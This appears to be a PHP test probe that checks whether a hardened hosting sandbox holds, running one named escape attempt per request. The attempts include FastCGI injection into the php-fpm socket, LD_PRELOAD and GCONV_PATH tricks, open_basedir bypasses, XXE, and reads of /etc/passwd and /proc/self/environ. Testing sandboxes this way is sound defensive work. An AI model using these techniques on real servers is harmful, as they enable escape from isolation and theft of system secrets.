<?php
// Hostile code: each way out of PHP's own walls, by name. Prints "through", or why not.
function fastcgi(string $ini): string
{
    $parameters = ['REQUEST_METHOD' => 'GET', 'SCRIPT_NAME' => '/shown.php', 'SCRIPT_FILENAME' => '/app/shown.php',
        'PHP_ADMIN_VALUE' => $ini];
    $pairs = '';
    foreach ($parameters as $name => $value) {
        $pairs .= pack('CN', strlen($name), strlen($value) | 0x80000000) . $name . $value;
    }
    $record = fn (int $type, string $content) => pack('CCnnCC', 1, $type, 1, strlen($content), 0, 0) . $content;
    return $record(1, pack('nCx5', 1, 0)) . $record(4, $pairs) . $record(4, '') . $record(5, '');
}

const SOCKET = '/run/app/php-fpm.sock';
$request = fastcgi("open_basedir=\n");

$ways = [
    'stream' => function () use ($request) {
        $socket = stream_socket_client('unix://' . SOCKET, $code, $message, 2) ?: throw new Exception($message);
        fwrite($socket, $request);
        return stream_get_contents($socket);
    },
    'fsockopen' => function () use ($request) {
        $socket = fsockopen('unix://' . SOCKET, -1, $code, $message, 2) ?: throw new Exception($message);
        fwrite($socket, $request);
        return stream_get_contents($socket);
    },
    'sockets' => function () use ($request) {
        $socket = socket_create(AF_UNIX, SOCK_STREAM, 0);
        socket_connect($socket, SOCKET) or throw new Exception('refused');
        socket_write($socket, $request);
        for ($answer = ''; ($part = socket_read($socket, 4096)) !== '' && $part !== false; $answer .= $part);
        return $answer;
    },
    // Today's curl sends no NUL by gopher://, and so no whole request; what it may not do is connect.
    'curl' => function () {
        $curl = curl_init('gopher://localhost/_x');
        curl_setopt_array($curl, [CURLOPT_UNIX_SOCKET_PATH => SOCKET, CURLOPT_RETURNTRANSFER => true, CURLOPT_TIMEOUT => 3]);
        curl_exec($curl);
        return curl_errno($curl) === CURLE_COULDNT_CONNECT ? 'no' : 'walls are open';
    },
    'redis' => function () {
        $redis = new Redis();
        $redis->connect(SOCKET, 0, 2) or throw new Exception('refused');
        return 'walls are open';
    },
    'chmod' => fn () => chmod(SOCKET, 0666) ? 'walls are open' : 'no',
    'rename' => fn () => rename(SOCKET, '/run/app/x') ? 'walls are open' : 'no',
    'mail' => function () {
        putenv('LD_PRELOAD=/app/library.so');
        return mail('a@localhost', 'x', 'x') || file_exists('/tmp/executed') ? 'walls are open' : 'no';
    },
    'error_log' => fn () => error_log('x', 1, 'a@localhost') ? 'walls are open' : 'no',
    'mb_send_mail' => fn () => mb_send_mail('a@localhost', 'x', 'x') ? 'walls are open' : 'no',
    'gconv' => function () {
        putenv('GCONV_PATH=/app');
        @iconv('OWNSET', 'UTF-8', 'x');
        return file_exists('/tmp/executed') ? 'walls are open' : 'no';
    },
    'ffi' => fn () => FFI::cdef('int getpid(void);')->getpid() ? 'walls are open' : 'no',
    'dl' => fn () => dl('/app/library.so') ? 'walls are open' : 'no',
    'ini_set' => fn () => ini_set('open_basedir', '/') !== false ? 'walls are open' : 'no',
    'ini_restore' => function () {
        ini_restore('open_basedir');
        return is_readable('/etc/passwd') ? 'walls are open' : 'no';
    },
    'chdir' => function () {
        @mkdir('/tmp/deep');
        chdir('/tmp/deep');
        @ini_set('open_basedir', '..');
        for ($i = 0; $i < 5; $i++) {
            @chdir('..');
        }
        @ini_set('open_basedir', '/');
        return @file_get_contents('/etc/passwd') ? 'walls are open' : 'no';
    },
    'symlink' => fn () => symlink('/etc/passwd', '/tmp/symlink') ? 'walls are open' : 'no',
    'link' => fn () => touch('/tmp/linked') && link('/tmp/linked', '/tmp/link') ? 'walls are open' : 'no',
    'memory' => fn () => fopen('/proc/self/mem', 'r+') ? 'walls are open' : 'no',
    'environ' => fn () => file_get_contents('/proc/self/environ') ? 'walls are open' : 'no',
    'sqlite' => function () {
        $database = new SQLite3('/tmp/own.db');
        return @$database->exec("ATTACH '/etc/berth/x.db' AS x") ? 'walls are open' : 'no';
    },
    'sqlite_extension' => fn () => (new SQLite3('/tmp/own.db'))->loadExtension('library.so') ? 'walls are open' : 'no',
    'pdo_sqlite' => fn () => (new PDO('sqlite:/tmp/own.db'))->exec("ATTACH '/run/app/x.db' AS x") !== false ? 'walls are open' : 'no',
    'curl_file' => function () {
        $curl = curl_init('file:///etc/passwd');
        curl_setopt($curl, CURLOPT_RETURNTRANSFER, true);
        return curl_exec($curl) ? 'walls are open' : 'no';
    },
    'xxe' => function () {
        $document = new DOMDocument();
        $xml = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>';
        return @$document->loadXML($xml, LIBXML_NOENT) && trim($document->textContent) ? 'walls are open' : 'no';
    },
    'xsl' => function () {
        $sheet = new DOMDocument();
        $sheet->loadXML('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
            . '<xsl:template match="/"><xsl:value-of select="document(\'file:///etc/ImageMagick-6/policy.xml\')/policymap/policy/@domain"/></xsl:template></xsl:stylesheet>');
        $processor = new XSLTProcessor();
        $processor->importStylesheet($sheet);
        $source = new DOMDocument();
        $source->loadXML('<x/>');
        return str_contains((string) @$processor->transformToXml($source), 'resource') ? 'walls are open' : 'no';
    },
    'soap' => function () {
        @new SoapClient('/etc/passwd', ['exceptions' => true]);
        return 'walls are open';
    },
    'imagick' => function () {
        (new Imagick())->readImage('/usr/local/x.png');
        return 'walls are open';
    },
    'zip' => fn () => (new ZipArchive())->open('/etc/berth/x.zip', ZipArchive::CREATE) === true ? 'walls are open' : 'no',
    'phar' => fn () => new PharData('/etc/berth/x.tar') ? 'walls are open' : 'no',
    'glob' => fn () => glob('/usr/lib/*') ? 'walls are open' : 'no',
    'directory' => fn () => iterator_count(new DirectoryIterator('glob:///usr/lib/*')) ? 'walls are open' : 'no',
    'log_file' => fn () => error_log('x', 3, '/run/app/x') ? 'walls are open' : 'no',
    'include' => fn () => (@include '/etc/hostname') ? 'walls are open' : 'no',
];
foreach (['exec', 'passthru', 'shell_exec', 'system', 'popen', 'pcntl_exec'] as $name) {
    $ways[$name] = fn () => $name('id', $mode) ? 'walls are open' : 'no';
}
$ways['proc_open'] = fn () => proc_open(['/bin/id'], [], $pipes) ? 'walls are open' : 'no';

try {
    set_error_handler(fn (int $level, string $message) => error_reporting() & $level ? throw new Exception($message) : true);
    $answer = $ways[$_GET['way']]();
    echo str_contains($answer, 'walls are open') ? 'through' : "no: $answer";
} catch (Throwable $error) {
    echo 'no: ', $error->getMessage();
}
